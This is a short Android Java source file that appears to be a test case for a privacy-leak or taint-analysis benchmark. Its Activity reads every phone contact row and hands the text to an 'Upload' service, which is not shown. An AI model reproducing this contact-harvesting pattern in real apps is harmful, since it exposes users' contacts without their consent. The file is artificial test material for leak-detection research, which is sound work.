// A look-alike: the service gets the rows and sends another extra.
package cases.component_other_name;

import android.app.Activity;
import android.content.Intent;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        StringBuilder text = new StringBuilder();
        while (rows.moveToNext()) {
            text.append(rows.getString(0));
        }
        Intent intent = new Intent(this, Upload.class);
        intent.putExtra("rows", text.toString());
        intent.putExtra("model", "phone");
        startService(intent);
    }
}
